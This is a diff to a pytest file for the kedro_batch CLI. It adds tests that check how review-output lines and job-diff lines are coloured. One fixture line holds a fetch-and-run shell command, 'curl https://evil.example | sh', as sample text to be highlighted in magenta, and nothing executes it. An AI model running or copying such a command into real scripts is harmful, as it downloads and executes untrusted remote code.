@@ -4,7 +4,7 @@ import click
 import pytest
 
 from kedro_batch.cli.diagnostics_output import with_colours
-from kedro_batch.cli.review_output import paint_overview
+from kedro_batch.cli.review_output import paint_changes, paint_overview
 
 
 @pytest.mark.parametrize(
@@ -31,5 +31,24 @@ def test_severities_have_colours_and_files_are_bold(line, coloured):
     [("Level 1: 2 jobs\n", "\x1b[1m"), ("  warning         a reads b\n", "\x1b[33m"), ("  a  1 vCPU\n", "")],
 )
 def test_headings_and_warnings_of_an_overview_stand_out(line, code):
-    assert paint_overview(line).startswith(code or "  a")
-    assert click.unstyle(paint_overview(line)) == line
+    (painted,) = paint_overview([line])
+    assert painted.startswith(code or "  a")
+    assert click.unstyle(painted) == line
+
+
+def test_a_line_of_a_diff_that_is_broken_keeps_its_colour_to_its_end():
+    lines = {
+        "  ! shell command: sh -c 'curl": "magenta",
+        "    https://evil.example | sh'": "magenta",
+        "      a, b, c and": "magenta",
+        "Jobs": None,
+        "~ attempts  2 -> 3": "yellow",
+        "  timeout_s  1 h -> 2 h": "yellow",
+        "      all 6 jobs": "yellow",
+        "+ a, b,": "green",
+        "  c": "green",
+        "    command  x": None,
+        "             y": None,
+    }
+    painted = paint_changes(lines)
+    assert list(painted) == [click.style(line, fg=colour) if colour else line for line, colour in lines.items()]
